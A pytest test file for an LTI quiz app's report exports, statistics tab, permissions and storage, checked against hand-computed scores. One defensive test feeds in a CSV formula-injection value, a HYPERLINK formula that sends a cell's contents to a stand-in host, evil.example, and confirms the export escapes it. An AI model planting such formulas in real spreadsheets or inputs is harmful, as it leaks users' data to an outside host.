"""Reports built in the background, and the Statistics tab, checked against hand-computed figures."""
import csv
import hashlib
import io
import json
from datetime import datetime, timedelta, timezone

import pytest
from rq.cron import CronScheduler
from sqlalchemy import select

from lti_app.extensions import db, jobs
from lti_app.models import CmiElement, Outcome, Report, StoredFile
from lti_app.reports.statistics import histogram, minutes_width
from lti_app.services import attempts, remarking, reports, results, storage
from lti_app.services.reports import request_report
from lti_app.services.storage import store_stream
from tests import factories

KINDS = ("scores", "attempts", "full_data", "questions")
HEADERS = {
    "scores": "user_id,name,email,attempts,score,state,sent_score,reported_at,lms_status,lms_code,lms_message",
    "attempts": ("attempt_id,user_id,name,email,attempt_number,started_at,finished_at,time_spent_seconds,"
                 "time_spent,status,completion_status,success_status,score,raw_score,max_score,remarked,discounted"),
    "questions": "item_id,name,kind,attempts,mean_score,max_score,mean_percent,std_dev,discrimination,remarked,discounted",
}
MONDAY = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)
ITEMS_ADA = {"q0": (1, 2), "q0p0": (1, 1), "q0p1": (0, 1), "q1": (3, 3)}
ITEMS_BEN = {"q0": (2, 2), "q0p0": (1, 1), "q0p1": (1, 1), "q1": (0, 3)}


@pytest.fixture
def resource(app):
    return factories.resource(factories.context(factories.consumer()))


@pytest.fixture
def instructor(resource):
    return factories.member(resource.consumer, resource.context, "teacher-1", "Tom Teacher", role="instructor")


def build(resource, kind, run_jobs):
    report = request_report(resource, kind, "Tom Teacher")
    run_jobs()
    db.session.refresh(report)
    assert report.state == "ready", report.error
    return report


def content(report):
    return b"".join(reports.report_chunks(report)).decode()


def csv_rows(report):
    return list(csv.reader(io.StringIO(content(report))))


def ada_only(resource):
    ada = factories.user(resource.consumer, "ada", "Ada Learner")
    return factories.attempt(resource, ada, ITEMS_ADA, started_at=MONDAY, minutes=20)


def a_class(resource, run_jobs):
    """Ada and Ben finished; Cy is still working; Dee's only attempt was deleted. Through the services an
    instructor uses: Ben's q1 is re-marked to 2, then part q0p1 gives everyone full marks (a re-marking job).

    By hand, from the package's numbers (q0 out of 2 with parts q0p0, q0p1 out of 1 each; q1 out of 3):
    Ada: q0 = 1 + (q0p1 0 -> 1) = 2, q1 = 3: 5 / 5 = 1.0.
    Ben: q0 = 2 (q0p1 was already 1), q1 re-marked 0 -> 2: 4 / 5 = 0.8.
    Cy (open): q0 = 0 of 2, no parts: 0 / 2 = 0.0."""
    ada_attempt = ada_only(resource)
    ben = factories.user(resource.consumer, "ben", "Ben Student")
    ben_attempt = factories.attempt(resource, ben, ITEMS_BEN, started_at=MONDAY + timedelta(days=1, hours=1), minutes=40)
    cy = factories.user(resource.consumer, "cy", "Cy Open")
    factories.attempt(resource, cy, {"q0": (0, 2)}, status="open", started_at=MONDAY, minutes=5)
    dee = factories.user(resource.consumer, "dee", "Dee Deleted")
    dee_attempt = factories.attempt(resource, dee, ITEMS_BEN)
    attempts.delete_attempt(dee_attempt, by="Tom Teacher")
    remarking.override(ben_attempt, "q1", 2, "re-marked", "Tom Teacher")
    remarking.discount(resource, "q0p1", "full_marks", "Tom Teacher")
    run_jobs()
    return ada_attempt, ben_attempt


@pytest.mark.parametrize("kind", ["scores", "attempts", "questions"])
def test_no_attempts_gives_headers_only(resource, run_jobs, kind):
    report = build(resource, kind, run_jobs)
    assert content(report) == HEADERS[kind] + "\r\n"


def test_full_data_without_attempts_is_empty(resource, run_jobs):
    assert content(build(resource, "full_data", run_jobs)) == ""


def test_attempts_report_of_one_attempt(resource, run_jobs):
    ada_only(resource)
    header, row = csv_rows(build(resource, "attempts", run_jobs))
    assert header == HEADERS["attempts"].split(",")[:15] + ["q0", "q1", "remarked", "discounted"]
    assert dict(zip(header, row)) == {
        "attempt_id": "1", "user_id": "ada", "name": "Ada Learner", "email": "ada@example.edu",
        "attempt_number": "1", "started_at": "2026-03-02T09:00:00+00:00",
        "finished_at": "2026-03-02T09:20:00+00:00", "time_spent_seconds": "1200", "time_spent": "0:20:00",
        "status": "finished", "completion_status": "completed", "success_status": "unknown",
        "score": "0.8", "raw_score": "4", "max_score": "5", "q0": "1", "q1": "3", "remarked": "", "discounted": "",
    }


def test_attempts_report_applies_remarks_and_discounts_and_leaves_deleted_out(resource, run_jobs):
    a_class(resource, run_jobs)
    header, *rows = csv_rows(build(resource, "attempts", run_jobs))
    by_user = {row[1]: dict(zip(header, row)) for row in rows}
    assert set(by_user) == {"ada", "ben", "cy"}
    # Scores as worked out in a_class; raw_score is the package's own (Ada 1 + 3, Ben 2 + 0), not re-marked.
    assert [by_user["ada"][c] for c in ("q0", "q1", "remarked", "discounted")] == ["2", "3", "", "q0p1:full_marks"]
    assert [by_user["ada"][c] for c in ("score", "raw_score", "max_score")] == ["1", "4", "5"]
    assert [by_user["ben"][c] for c in ("q0", "q1", "remarked", "discounted")] == ["2", "2", "q1", "q0p1:full_marks"]
    assert [by_user["ben"][c] for c in ("score", "raw_score", "max_score", "time_spent")] == ["0.8", "2", "5", "0:40:00"]
    assert [by_user["cy"][c] for c in ("status", "finished_at", "score", "q0", "q1")] == ["open", "", "0", "0", ""]


def test_attempts_report_byte_for_byte(resource, run_jobs):
    """The whole file, pinned: re-marks of a question and of a part, a discount of each kind, and attempts
    scored alike (Fay as Ada) that must not share Eve's re-mark. Eve's name would start a formula."""
    a_class(resource, run_jobs)
    eve = factories.user(resource.consumer, "eve", "=Eve")
    eve_attempt = factories.attempt(resource, eve, ITEMS_ADA, started_at=MONDAY + timedelta(days=2), minutes=25)
    fay = factories.user(resource.consumer, "fay", "Fay Alike")
    factories.attempt(resource, fay, ITEMS_ADA, started_at=MONDAY + timedelta(days=2), minutes=25)
    remarking.override(eve_attempt, "q0p0", 0, "re-marked", "Tom Teacher")
    remarking.discount(resource, "q1", "remove", "Tom Teacher")
    run_jobs()
    assert content(build(resource, "attempts", run_jobs)) == "".join(line + "\r\n" for line in [
        HEADERS["attempts"].replace("max_score,", "max_score,q0,q1,"),
        "1,ada,Ada Learner,ada@example.edu,1,2026-03-02T09:00:00+00:00,"
        "2026-03-02T09:20:00+00:00,1200,0:20:00,finished,completed,unknown,1,4,5,2,0,,q0p1:full_marks q1:remove",
        "2,ben,Ben Student,ben@example.edu,1,2026-03-03T10:00:00+00:00,"
        "2026-03-03T10:40:00+00:00,2400,0:40:00,finished,completed,unknown,1,2,5,2,0,q1,q0p1:full_marks q1:remove",
        "3,cy,Cy Open,cy@example.edu,1,2026-03-02T09:00:00+00:00,,300,0:05:00,open,incomplete,unknown,0,0,2,0,,,",
        "5,eve,'=Eve,eve@example.edu,1,2026-03-04T09:00:00+00:00,"
        "2026-03-04T09:25:00+00:00,1500,0:25:00,finished,completed,unknown,0.5,4,5,1,0,q0p0,q0p1:full_marks q1:remove",
        "6,fay,Fay Alike,fay@example.edu,1,2026-03-04T09:00:00+00:00,"
        "2026-03-04T09:25:00+00:00,1500,0:25:00,finished,completed,unknown,1,4,5,2,0,,q0p1:full_marks q1:remove",
    ])


def test_questions_report_for_a_class(resource, run_jobs):
    a_class(resource, run_jobs)
    header, *rows = csv_rows(build(resource, "questions", run_jobs))
    assert header == HEADERS["questions"].split(",")
    # Finished attempts only (Ada, Ben): q0 = 2 and 2, q1 = 3 and 2 (re-marked), q0p1 = 1 and 1 (full marks).
    assert rows == [
        ["q0", "Question 1", "question", "2", "2", "2", "100", "0", "", "0", ""],
        ["q0p0", "Question 1, part a", "part", "2", "1", "1", "100", "0", "", "0", ""],
        ["q0p1", "Question 1, part b", "part", "2", "1", "1", "100", "0", "", "0", "full_marks"],
        ["q1", "Question 2", "question", "2", "2.5", "3", "83.3", "0.5", "", "1", ""],
    ]


def test_question_discrimination_is_the_item_rest_correlation(resource, run_jobs):
    marks = {"a": (1, 1, 1), "b": (1, 1, 0), "c": (0, 1, 0), "d": (0, 0, 1)}
    for name, (q0, q1, q2) in marks.items():
        factories.attempt(resource, factories.user(resource.consumer, name, name),
                          {"q0": (q0, 1), "q1": (q1, 1), "q2": (q2, 1)})
    rows = {row[0]: row for row in csv_rows(build(resource, "questions", run_jobs))[1:]}
    # By hand: q0 against rests (2,1,1,1): cov .5 / sqrt(1 * .75); q1 against (2,1,0,1): cov 0;
    # q2 against (2,2,1,0): cov -.5 / sqrt(1 * 2.75).
    assert rows["q0"][4:9] == ["0.5", "1", "50", "0.5", "0.577"]
    assert rows["q1"][8] == "0"
    assert rows["q2"][8] == "-0.302"


def test_scores_report(resource, run_jobs):
    ada_attempt, ben_attempt = a_class(resource, run_jobs)
    sent = MONDAY + timedelta(hours=1)
    # What the LMS answered, with the scores worked out in a_class (Ada 1.0, Ben 0.8).
    db.session.add_all([
        Outcome(consumer_id=resource.consumer_id, resource_id=resource.id, user_id=ada_attempt.user_id, score=1.0,
                sent_score=1.0, state="sent", last_status=200, code_major="success", sent_at=sent),
        Outcome(consumer_id=resource.consumer_id, resource_id=resource.id, user_id=ben_attempt.user_id, score=0.8,
                state="failed", tries=1, last_status=422, description="User is no longer in course"),
    ])
    db.session.commit()
    header, *rows = csv_rows(build(resource, "scores", run_jobs))
    assert header == HEADERS["scores"].split(",")
    assert rows == [
        ["ada", "Ada Learner", "ada@example.edu", "1", "1", "sent", "1", "2026-03-02T10:00:00+00:00", "200",
         "success", ""],
        ["ben", "Ben Student", "ben@example.edu", "1", "0.8", "failed", "", "", "422", "",
         "User is no longer in course"],
        ["cy", "Cy Open", "cy@example.edu", "1", "", "", "", "", "", "", ""],
    ]


def test_cells_a_spreadsheet_would_run_as_formulas_are_text_and_numbers_stay_numbers(resource, run_jobs):
    hostile = factories.user(resource.consumer, "+1-2", '=HYPERLINK("http://evil.example/?"&A1,"Open")',
                             email="@SUM(1+1)@example.edu")
    factories.attempt(resource, hostile, {"q0": (-1.5, 2), "-2+3": (1, 1)})
    header, row = csv_rows(build(resource, "attempts", run_jobs))
    cells = dict(zip(header, row))
    assert cells["user_id"] == "'+1-2" and cells["email"] == "'@SUM(1+1)@example.edu"
    assert cells["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
    assert "'-2+3" in header and cells["'-2+3"] == "1"
    assert cells["q0"] == "-1.5" and cells["raw_score"] == "-0.5"


def test_full_data_has_every_element_of_attempts_not_deleted(resource, run_jobs):
    ada_attempt = ada_only(resource)
    deleted = factories.attempt(resource, factories.user(resource.consumer, "dee", "Dee"), deleted_at=MONDAY)
    for attempt, sequence, key, value in ((ada_attempt, 1, "cmi.location", "q1"),
                                          (ada_attempt, 2, "cmi.score.scaled", "0.8"),
                                          (deleted, 1, "cmi.location", "q9")):
        db.session.add(CmiElement(attempt_id=attempt.id, batch_id=f"b{sequence}", sequence=sequence, key=key,
                                  value=value, client_time=MONDAY, server_time=MONDAY + timedelta(seconds=1)))
    db.session.commit()
    lines = [json.loads(line) for line in content(build(resource, "full_data", run_jobs)).splitlines()]
    assert lines == [
        {"attempt_id": ada_attempt.id, "user_id": "ada", "attempt_number": 1, "sequence": 1, "batch_id": "b1",
         "key": "cmi.location", "value": "q1", "client_time": "2026-03-02T09:00:00.000+00:00",
         "server_time": "2026-03-02T09:00:01.000+00:00"},
        {"attempt_id": ada_attempt.id, "user_id": "ada", "attempt_number": 1, "sequence": 2, "batch_id": "b2",
         "key": "cmi.score.scaled", "value": "0.8", "client_time": "2026-03-02T09:00:00.000+00:00",
         "server_time": "2026-03-02T09:00:01.000+00:00"},
    ]


def test_many_attempts_span_several_batches(resource, run_jobs, monkeypatch):
    monkeypatch.setattr("lti_app.services.results.BATCH_SIZE", 3)
    for n in range(8):
        factories.attempt(resource, factories.user(resource.consumer, f"s{n}", f"Student {n}"), {"q0": (n % 3, 2)},
                          minutes=10 + n)
    header, *rows = csv_rows(build(resource, "attempts", run_jobs))
    assert [row[1] for row in rows] == [f"s{n}" for n in range(8)]
    assert [row[header.index("q0")] for row in rows] == [str(n % 3) for n in range(8)]
    assert [row[header.index("time_spent_seconds")] for row in rows] == [str(60 * (10 + n)) for n in range(8)]


def test_request_commits_the_row_before_the_job_and_the_job_reports_progress(resource, run_jobs, monkeypatch):
    monkeypatch.setattr("lti_app.services.results.BATCH_SIZE", 2)
    for n in range(3):
        factories.attempt(resource, factories.user(resource.consumer, f"s{n}", f"Student {n}"), {"q0": (1, 1)})
    report = request_report(resource, "attempts", "Tom Teacher")
    job, = jobs.queue.get_jobs()
    assert job.args == (report.id,) and db.session.get(Report, report.id).state == "queued"

    # What a polling page would read, through its own connection, before each batch and before storing.
    seen = []

    def stored_progress():
        with db.engine.connect() as connection:
            seen.append(tuple(connection.execute(
                select(Report.state, Report.progress).where(Report.id == report.id)).one()))

    attempt_batches, store_stream = results.attempt_batches, storage.store_stream

    def watched_batches(resource_id):
        for batch in attempt_batches(resource_id):
            stored_progress()
            yield batch

    def watched_store(stream):
        stored_progress()
        return store_stream(stream)

    monkeypatch.setattr(results, "attempt_batches", watched_batches)
    monkeypatch.setattr(storage, "store_stream", watched_store)
    run_jobs()
    # 2 of 3 attempts written: 66 %; all 3: 99 % until the file is stored; then ready at 100 %.
    assert seen == [("running", 0), ("running", 66), ("running", 99)]
    assert (Report.query.one().state, Report.query.one().progress) == ("ready", 100)


def test_a_failing_report_keeps_its_error_and_the_job_fails(resource, instructor, client, run_jobs, monkeypatch):
    def broken(resource_id, out, progress):
        raise RuntimeError("the disk is full")

    monkeypatch.setitem(reports.BUILDERS, "attempts", broken)
    report = request_report(resource, "attempts", "Tom Teacher")
    run_jobs()
    db.session.refresh(report)
    assert (report.state, report.error, report.file_id) == ("failed", "RuntimeError: the disk is full", None)
    assert jobs.queue.failed_job_registry.get_job_ids() != []
    factories.sign_in(client, instructor)
    row = client.get(f"/dashboard/resources/{resource.id}/reports/{report.id}").get_data(as_text=True)
    assert "failed" in row and "RuntimeError: the disk is full" in row and "hx-trigger" not in row


def test_unknown_kind_is_refused(resource):
    with pytest.raises(Exception, match="no report of kind"):
        request_report(resource, "everything", "Tom")
    assert Report.query.count() == 0


def test_reports_older_than_30_days_are_deleted_with_their_files(resource, run_jobs):
    old = build(resource, "scores", run_jobs)
    ada_only(resource)
    recent = build(resource, "attempts", run_jobs)
    shared = build(resource, "questions", run_jobs)
    now = datetime.now(timezone.utc)
    old.created_at = now - timedelta(days=31)
    shared_old = Report(resource_id=resource.id, kind="questions", state="ready", file_id=shared.file_id,
                        created_at=now - timedelta(days=40))
    recent.created_at = now - timedelta(days=29)
    db.session.add(shared_old)
    db.session.commit()
    old_file = old.file_id
    assert reports.delete_old_reports(now) == 2
    assert {r.id for r in Report.query} == {recent.id, shared.id}
    assert db.session.get(StoredFile, old_file) is None
    assert db.session.get(StoredFile, shared.file_id) is not None


def test_the_cleanup_runs_nightly_through_rq_cron(app):
    scheduler = CronScheduler(connection=jobs.redis)
    scheduler.load_config_from_file("workers.cron")
    cron_job, = (job for job in scheduler.get_jobs() if job.func_name == "workers.report_jobs.delete_old_reports")
    assert cron_job.cron == "30 3 * * *"


def test_reports_tab_requests_polls_and_downloads(resource, instructor, client, run_jobs):
    ada_only(resource)
    factories.sign_in(client, instructor)
    base = f"/dashboard/resources/{resource.id}/reports"
    page = client.get(base)
    assert page.status_code == 200 and "No reports in the last 30 days." in page.get_data(as_text=True)
    assert 'aria-current="page" class="active">Reports</a>' in page.get_data(as_text=True)
    row = client.post(base, data={"kind": "attempts"}, headers={"HX-Request": "true"}).get_data(as_text=True)
    report = Report.query.one()
    assert f'id="report-{report.id}"' in row and 'hx-trigger="every 2s"' in row and "queued" in row
    assert report.requested_by == "Tom Teacher (teacher-1)"
    run_jobs()
    row = client.get(f"{base}/{report.id}").get_data(as_text=True)
    assert "ready" in row and "hx-trigger" not in row and f"{base}/{report.id}/download" in row
    download = client.get(f"{base}/{report.id}/download")
    assert download.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert download.headers["Content-Disposition"] == f'attachment; filename="{report.filename}"'
    assert report.filename.endswith(".csv")
    assert list(csv.reader(io.StringIO(download.get_data(as_text=True))))[1][1] == "ada"


def test_reports_tab_without_htmx_redirects_after_the_request(resource, instructor, client):
    factories.sign_in(client, instructor)
    response = client.post(f"/dashboard/resources/{resource.id}/reports", data={"kind": "scores"})
    assert response.status_code == 303 and response.location.endswith(f"/resources/{resource.id}/reports")
    fragment = client.get(f"/dashboard/resources/{resource.id}/reports", headers={"HX-Request": "true"})
    assert "HX-Request" in fragment.vary and "<html" not in fragment.get_data(as_text=True)


def test_reports_of_another_context_are_404(resource, instructor, client, run_jobs):
    other_resource = factories.resource(factories.context(resource.consumer, "course-2"), "Other quiz")
    report = build(other_resource, "scores", run_jobs)
    factories.sign_in(client, instructor)
    for url in (f"/dashboard/resources/{other_resource.id}/reports",
                f"/dashboard/resources/{other_resource.id}/statistics",
                f"/dashboard/resources/{resource.id}/reports/{report.id}",
                f"/dashboard/resources/{resource.id}/reports/{report.id}/download"):
        assert client.get(url).status_code == 404, url
    assert client.post(f"/dashboard/resources/{other_resource.id}/reports", data={"kind": "scores"}).status_code == 404


def test_a_student_of_the_context_sees_neither_tab(resource, client):
    factories.sign_in(client, factories.member(resource.consumer, resource.context, "ada", "Ada Learner"))
    for tab in ("reports", "statistics"):
        assert client.get(f"/dashboard/resources/{resource.id}/{tab}").status_code == 404
    assert client.post(f"/dashboard/resources/{resource.id}/reports", data={"kind": "scores"}).status_code == 404
    assert Report.query.count() == 0


def test_a_report_is_downloadable_only_when_ready(resource, instructor, client):
    factories.sign_in(client, instructor)
    report = request_report(resource, "scores", "Tom")
    assert client.get(f"/dashboard/resources/{resource.id}/reports/{report.id}/download").status_code == 409


def test_statistics_tab_numbers(resource, instructor, client, run_jobs):
    a_class(resource, run_jobs)
    factories.attempt(resource, factories.user(resource.consumer, "eve", "Eve"), {"q0": (0, 2), "q1": (1, 3)},
                      started_at=MONDAY + timedelta(days=3), minutes=7)
    factories.sign_in(client, instructor)
    page = client.get(f"/dashboard/resources/{resource.id}/statistics").get_data(as_text=True)
    # Finished: Ada 100% in 20 min (Mon), Ben 80% in 40 min (Tue), Eve (0 + 1) / 5 = 20% in 7 min (Thu);
    # mean (100 + 80 + 20) / 3 = 66.7%.
    assert "From 3 finished attempts" in page and "Mean score 66.7%" in page and "median time 20.0 minutes" in page
    assert "<td>20–30%</td><td>1</td>" in page and "<td>80–90%</td><td>1</td>" in page and "<td>90–100%</td><td>1</td>" in page
    assert "<td>5–10</td><td>1</td>" in page and "<td>20–25</td><td>1</td>" in page and "<td>40–45</td><td>1</td>" in page
    assert "<td>2026-03-03</td><td>1</td><td>2</td>" in page and "<td>2026-03-04</td><td>0</td><td>2</td>" in page
    assert page.count('role="img"') == 4 and '<title id="score-chart-title">Score distribution</title>' in page


def test_statistics_without_finished_attempts(resource, instructor, client):
    factories.sign_in(client, instructor)
    page = client.get(f"/dashboard/resources/{resource.id}/statistics", headers={"HX-Request": "true"})
    assert "No finished attempts yet" in page.get_data(as_text=True) and "<html" not in page.get_data(as_text=True)


def test_histogram_bins_close_the_last_one():
    bins = histogram([0, 9.99, 10, 99, 100], 10, 100)
    assert [b.count for b in bins] == [2, 1, 0, 0, 0, 0, 0, 0, 0, 2] and bins[-1].last
    assert minutes_width(25) == 5 and minutes_width(0) == 1 and minutes_width(300) == 30


def test_a_stored_file_reads_back_chunk_by_chunk(app, monkeypatch):
    monkeypatch.setattr("lti_app.services.storage.CHUNK_BYTES", 4)
    data = b"user_id,score\r\nada,1\r\n"  # 22 bytes: five chunks of 4 and one of 2
    file_id = store_stream(io.BytesIO(data)).id
    db.session.commit()
    db.session.remove()
    stored = db.session.get(StoredFile, file_id)
    assert (stored.size, stored.sha256) == (22, hashlib.sha256(data).hexdigest())
    assert list(storage.iter_chunks(stored)) == [data[i:i + 4] for i in range(0, 22, 4)]
    assert store_stream(io.BytesIO(data)).id == file_id  # the same bytes are stored once


def test_huge_marks_leave_their_figures_empty_and_the_rest_of_the_report_whole(resource, instructor, client,
                                                                               run_jobs):
    ada_only(resource)  # q0 1/2, q1 3/3
    huge = factories.user(resource.consumer, "huge", "Hugh Huge")
    # score as marking.attempt_score gives it: the sums overflow, and the clamp makes that 0
    factories.attempt(resource, huge, {"q0": (1e308, 1e308), "q1": (1e308, 1e308), "q2": (1, 1)}, score=0.0)
    factories.attempt(resource, factories.user(resource.consumer, "bo", "Bo"), {"q2": (0, 1)})
    rows = {row[0]: row for row in csv_rows(build(resource, "questions", run_jobs))[1:]}
    assert rows["q0"][3:8] == ["2", "5e+307", "5e+307", "100", ""]  # a square beyond a float: left empty
    assert rows["q2"][3:8] == ["2", "0.5", "1", "50", "0.5"]
    factories.sign_in(client, instructor)
    page = client.get(f"/dashboard/resources/{resource.id}/statistics")
    assert page.status_code == 200 and "From 3 finished attempts" in page.get_data(as_text=True)
